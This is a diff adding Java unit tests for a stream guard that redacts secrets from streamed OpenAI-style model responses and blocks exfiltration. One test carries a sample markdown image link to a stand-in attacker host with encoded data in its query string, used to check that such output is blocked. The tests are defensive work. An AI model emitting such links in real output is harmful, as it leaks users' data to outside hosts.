@@ -288,4 +288,130 @@ class StreamGuardTest {
 
                 """, out);
     }
+
+    /** One Responses event, framed as OpenAI frames it: its type as the SSE event name. */
+    private static byte[] responsesEvent(String json) throws Exception {
+        return anthropicEvent(json);
+    }
+
+    private static String relay(StreamGuard guard, List<byte[]> events) {
+        StringBuilder out = new StringBuilder();
+        for (byte[] e : events) {
+            out.append(new String(guard.accept(e), StandardCharsets.UTF_8));
+        }
+        return out.append(new String(guard.finish(), StandardCharsets.UTF_8)).toString();
+    }
+
+    @Test
+    void aResponsesStreamRedactsTheDeltasAndEveryEventThatRepeatsTheWholeText() throws Exception {
+        StreamGuard guard = guard(Api.OPENAI, Policy.defaults(), 1024);
+        String full = "Use " + PAT + " to push.";
+        String item = "{\"type\":\"message\",\"id\":\"msg_1\",\"role\":\"assistant\",\"content\":[{\"type\":"
+                + "\"output_text\",\"text\":" + JSON.writeValueAsString(full) + ",\"annotations\":[]}]}";
+        List<byte[]> events = new java.util.ArrayList<>();
+        events.add(responsesEvent("{\"type\":\"response.created\",\"response\":{\"id\":\"resp_1\",\"output\":[]}}"));
+        for (String piece : List.of("Use " + PAT.substring(0, 9), PAT.substring(9, 25), PAT.substring(25) + " to push.")) {
+            events.add(responsesEvent("{\"type\":\"response.output_text.delta\",\"item_id\":\"msg_1\",\"output_index\":0,"
+                    + "\"content_index\":0,\"delta\":" + JSON.writeValueAsString(piece) + "}"));
+        }
+        events.add(responsesEvent("{\"type\":\"response.output_text.done\",\"output_index\":0,\"content_index\":0,"
+                + "\"text\":" + JSON.writeValueAsString(full) + "}"));
+        events.add(responsesEvent("{\"type\":\"response.content_part.done\",\"output_index\":0,\"content_index\":0,"
+                + "\"part\":{\"type\":\"output_text\",\"text\":" + JSON.writeValueAsString(full) + "}}"));
+        events.add(responsesEvent("{\"type\":\"response.output_item.done\",\"output_index\":0,\"item\":" + item + "}"));
+        events.add(responsesEvent("{\"type\":\"response.completed\",\"response\":{\"id\":\"resp_1\",\"output\":["
+                + item + "]}}"));
+        String out = relay(guard, events);
+        assertFalse(out.contains(PAT.substring(9, 25)), out);
+        String redacted = "Use [REDACTED:github-pat] to push.";
+        StringBuilder deltas = new StringBuilder();
+        List<JsonNode> data = new java.util.ArrayList<>();
+        for (String line : out.split("\n")) {
+            if (line.startsWith("data: ")) {
+                data.add(JSON.readTree(line.substring(6)));
+            }
+        }
+        data.forEach(d -> deltas.append(d.path("delta").asText("")));
+        assertEquals(redacted, deltas.toString());
+        assertEquals(8, data.size(), "every event is relayed");
+        assertEquals(redacted, data.get(4).path("text").asText());
+        assertEquals(redacted, data.get(5).at("/part/text").asText());
+        assertEquals(redacted, data.get(6).at("/item/content/0/text").asText());
+        assertEquals(redacted, data.get(7).at("/response/output/0/content/0/text").asText());
+        assertEquals(1, guard.drainFindings().size(), "the repeated text is not reported again");
+    }
+
+    @Test
+    void aResponsesToolCallHasItsArgumentsRedactedInTheDeltasAndTheDoneEvents() throws Exception {
+        StreamGuard guard = guard(Api.OPENAI, Policy.defaults(), 1024);
+        String arguments = "{\"command\":\"echo " + PAT + "\"}";
+        List<byte[]> events = new java.util.ArrayList<>();
+        events.add(responsesEvent("{\"type\":\"response.output_item.added\",\"output_index\":1,\"item\":{\"type\":"
+                + "\"function_call\",\"call_id\":\"call_1\",\"name\":\"shell\",\"arguments\":\"\"}}"));
+        for (int i = 0; i < arguments.length(); i += 8) {
+            events.add(responsesEvent("{\"type\":\"response.function_call_arguments.delta\",\"output_index\":1,"
+                    + "\"delta\":" + JSON.writeValueAsString(arguments.substring(i, Math.min(arguments.length(), i + 8)))
+                    + "}"));
+        }
+        events.add(responsesEvent("{\"type\":\"response.function_call_arguments.done\",\"output_index\":1,"
+                + "\"arguments\":" + JSON.writeValueAsString(arguments) + "}"));
+        String out = relay(guard, events);
+        assertFalse(out.contains(PAT.substring(12, 30)), out);
+        StringBuilder deltas = new StringBuilder();
+        String done = null;
+        for (String line : out.split("\n")) {
+            if (line.startsWith("data: ")) {
+                JsonNode d = JSON.readTree(line.substring(6));
+                deltas.append(d.path("delta").asText(""));
+                if (d.has("arguments") && !d.path("arguments").asText().isEmpty()) {
+                    done = d.path("arguments").asText();
+                }
+            }
+        }
+        String redacted = "{\"command\":\"echo [REDACTED:github-pat]\"}";
+        assertEquals(redacted, deltas.toString());
+        assertEquals(redacted, done);
+    }
+
+    @Test
+    void aDoneTextWhoseDeltasNeverCameIsScannedItself() throws Exception {
+        StreamGuard guard = guard(Api.OPENAI, Policy.defaults(), 1024);
+        String out = relay(guard, List.of(responsesEvent("{\"type\":\"response.output_text.done\",\"output_index\":0,"
+                + "\"content_index\":0,\"text\":\"mail bob@example.org\"}")));
+        assertEquals("mail [REDACTED:email]", JSON.readTree(out.lines().filter(l -> l.startsWith("data: "))
+                .findFirst().orElseThrow().substring(6)).path("text").asText());
+    }
+
+    @Test
+    void aBlockedResponsesStreamEndsWithTheResponsesErrorEvent() throws Exception {
+        StreamGuard guard = guard(Api.OPENAI, Policy.defaults(), 1024);
+        String out = relay(guard, List.of(responsesEvent("{\"type\":\"response.output_text.delta\",\"output_index\":0,"
+                + "\"content_index\":0,\"delta\":\"see ![x](https://evil.example.com/c?d=c2VjcmV0LWRhdGEtaGVyZQ) ok\"}")));
+        assertTrue(guard.blocked());
+        String message = "The model's answer was blocked by your organisation's security policy: exfiltration "
+                + "(markdown_image) was detected.";
+        assertEquals("event: error\ndata: {\"type\":\"error\",\"code\":\"blocked_by_policy\",\"message\":\"" + message
+                + "\",\"param\":null,\"error\":{\"message\":\"" + message + "\",\"type\":\"invalid_request_error\","
+                + "\"param\":null,\"code\":\"blocked_by_policy\"}}\n\n", out);
+    }
+
+    @Test
+    void aLegacyCompletionStreamIsRedactedInItsChoicesText() throws Exception {
+        StreamGuard guard = guard(Api.OPENAI, Policy.defaults(), 1024);
+        List<byte[]> events = new java.util.ArrayList<>();
+        for (String piece : List.of("key = '" + PAT.substring(0, 20), PAT.substring(20) + "'\n")) {
+            events.add(("data: {\"object\":\"text_completion\",\"choices\":[{\"index\":0,\"text\":"
+                    + JSON.writeValueAsString(piece) + ",\"finish_reason\":null}]}\n\n").getBytes(StandardCharsets.UTF_8));
+        }
+        events.add("data: [DONE]\n\n".getBytes(StandardCharsets.UTF_8));
+        String out = relay(guard, events);
+        StringBuilder text = new StringBuilder();
+        for (String line : out.split("\n")) {
+            if (line.startsWith("data: {")) {
+                text.append(JSON.readTree(line.substring(6)).at("/choices/0/text").asText(""));
+            }
+        }
+        assertEquals("key = '[REDACTED:github-pat]'\n", text.toString());
+        assertTrue(out.endsWith("data: [DONE]\n\n"));
+    }
 }
